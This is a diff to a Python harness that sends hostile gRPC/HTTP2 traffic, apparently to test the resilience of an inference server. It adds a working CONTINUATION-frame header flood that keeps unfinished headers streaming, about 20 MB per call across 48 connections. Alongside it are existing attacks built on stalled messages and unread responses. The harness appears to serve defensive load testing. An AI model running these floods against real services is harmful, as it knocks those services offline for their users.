@@ -21,7 +21,7 @@ HEALTH = "/grpc.health.v1.Health/"
 REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
 
 # Types and flags of frames, and a setting.
-DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
+DATA, HEADERS, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
 END_STREAM = ACKNOWLEDGED = 1
 END_HEADERS = 4
 INITIAL_WINDOW = 4
@@ -35,6 +35,9 @@ PAUSE = 0.5
 
 # A little less than the largest message.
 MESSAGE_BYTES = 7_900_000
+
+# A header of 4 kB, how many frames with one are sent at a time, and how often they are sent.
+LONG_HEADER, FLOOD_FRAMES, FLOOD_TIMES = b"\0\1a\x7f\x81\x1f" + b"b" * 4096, 250, 20
 
 
 def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
@@ -63,6 +66,8 @@ class Connection:
         self._used: dict[int, int] = defaultdict(int)
         self.ended: dict[int, int] = {}
         self._changed = asyncio.Event()
+        self._reading: asyncio.Task[None] | None = None
+        self._has_settings = False
         self.is_open = False
 
     async def open(self, port: int) -> None:
@@ -73,8 +78,9 @@ class Connection:
         self._reading = asyncio.create_task(self._read())
 
     def close(self) -> None:
-        self._reading.cancel()
-        self._writer.transport.abort()
+        if self._reading:
+            self._reading.cancel()
+            self._writer.transport.abort()
 
     def call(self, path: str) -> int:
         """Begin a call and return its stream."""
@@ -97,6 +103,17 @@ class Connection:
             self._used[stream] += room
             await self._writer.drain()
 
+    async def flood(self, path: str) -> None:
+        """Begin a call whose headers have 20 MB, and do not end them. The limits of the settings hold already."""
+        while self.is_open and not self._has_settings:
+            await self.change()
+        self._writer.write(frame(HEADERS, 0, self._next, headers(path)))
+        more = frame(CONTINUATION, 0, self._next, LONG_HEADER) * FLOOD_FRAMES
+        for _ in range(FLOOD_TIMES):
+            self._writer.write(more)
+            await self._writer.drain()
+            await asyncio.sleep(0)
+
     async def change(self) -> None:
         """Wait until a frame arrives."""
         self._changed.clear()
@@ -117,6 +134,7 @@ class Connection:
             settings = dict(struct.iter_unpack(">HI", content))
             self._default = settings.get(INITIAL_WINDOW, self._default)
             self._writer.write(frame(SETTINGS, ACKNOWLEDGED, 0))
+            self._has_settings = True
         elif kind == PING and not flags & ACKNOWLEDGED:
             self._writer.write(frame(PING, ACKNOWLEDGED, 0, content))
         elif kind == WINDOW_UPDATE and stream == 0:
@@ -205,10 +223,21 @@ class GrpcAttack:
                 await asyncio.sleep(PAUSE)
 
 
+@dataclass(frozen=True)
+class HeaderFlood(GrpcAttack):
+    """Calls whose headers have no end. Each has a connection of its own."""
+
+    calls: int = 1
+
+    async def _call_again(self, connection: Connection, path: str, request: bytes, outcome: Outcome) -> None:
+        await connection.flood(path)
+
+
 GRPC_ATTACKS: dict[str, GrpcAttack] = {
     "gRPC: unfinished messages": GrpcAttack((INFER, f"{HEALTH}Check", f"{SERVICE}ServerLive"), size=MESSAGE_BYTES),
     "gRPC: calls without a message": GrpcAttack((f"{HEALTH}Check", f"{HEALTH}Watch", REFLECTION, INFER), 12, 100),
     "gRPC: responses that nobody reads": GrpcAttack((INFER, f"{SERVICE}ServerMetadata"), 12, 100, window=0),
+    "gRPC: headers without an end": HeaderFlood((INFER,), 48),
 }
 
 
